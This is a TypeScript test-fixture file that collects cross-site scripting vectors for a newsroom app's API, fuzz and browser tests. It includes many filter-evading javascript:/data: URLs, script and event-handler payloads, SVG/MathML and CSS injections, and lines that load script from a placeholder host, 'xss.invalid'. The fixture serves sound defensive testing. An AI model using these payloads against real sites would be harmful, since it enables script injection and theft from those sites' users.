/**
 * Hostile content for every way text enters Newsdesk: the API tests (hostile-content, fuzz) and
 * the browser test (e2e/xss.spec.ts) feed the same corpus through every field and path. A path
 * added later (wire import, ninjs and NewsML import, paste cleanup) is covered by feeding it
 * this corpus too.
 *
 * Every vector that runs does something a test notices: it opens a dialog (alert, confirm,
 * prompt, print) or requests something from `xss.invalid`, a host the tests never expect.
 * Written for Newsdesk from the well-known families of injection; no third-party list is copied.
 */

/** The host every vector calls home to; any request to it means something ran or loaded. */
export const XSS_HOST = 'xss.invalid';
const beacon = `//${XSS_HOST}/x.js`;

/** URLs that run script (or load from elsewhere) when a browser follows or loads them, in the spellings filters miss. */
export const XSS_URLS: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'javascript\t:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\u0000script:alert(1)',
  '\u0001javascript:alert(1)',
  '\u200bjavascript:alert(1)',
  'jav&#x61;script:alert(1)',
  'jav&#97;script:alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  'javascript&colon;alert(1)',
  'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>',
  'javascript://%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'VBScript:msgbox(1)',
  `https:${beacon}`,
  `${beacon}`,
  `https://${XSS_HOST}/"><script>alert(1)</script>`,
  `https://example.org/"onmouseover="alert(1)`,
  "https://example.org/'onfocus='alert(1)' autofocus='",
  'mailto:x@example.org?body=<script>alert(1)</script>',
];

/** Markup and text that runs script if it is ever written into a page unescaped. */
export const XSS_VECTORS: readonly string[] = [
  // Script tags
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  `<script src="${beacon}"></script>`,
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<!--<script>alert(1)</script>-->',
  '<script>/*</script><svg onload=alert(1)>*/</script>',
  // Event handlers
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<img src=x onerror="alert(1)"//',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">hover</div>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus='",
  // URLs in attributes
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="&#14;javascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  // srcset and images from elsewhere
  `<img srcset="https:${beacon} 1x">`,
  `<picture><source srcset="https:${beacon}"><img src="x"></picture>`,
  `<img src="https:${beacon}">`,
  // SVG and MathML
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="onload" to="alert(1)"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">click</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>',
  // CSS
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  `<style>@import "https:${beacon}";</style>`,
  `<style>body{background:url(https:${beacon})}</style>`,
  '<div style="behavior:url(x.htc)">x</div>',
  // Broken and nested markup
  '<<script>alert(1);//<</script>',
  '<img src="x" onerror="alert(1)"',
  '<svg/onload=alert(1)',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  // Entities and escapes meant to be decoded twice
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  // Template and JSON breakouts
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '</script><script>alert(1)</script>',
  '"};alert(1);//',
  // Control and invisible characters
  'Tab\there, bell\u0007, NUL\u0000 and escape\u001b[31m',
  'Right-to-left \u202eoverride\u202c and zero\u200bwidth',
  ...XSS_URLS,
];

/** One short label per vector, for test names and messages. */
export function vectorLabel(vector: string): string {
  const printable = JSON.stringify(vector);
  return printable.length > 50 ? `${printable.slice(0, 47)}…` : printable;
}
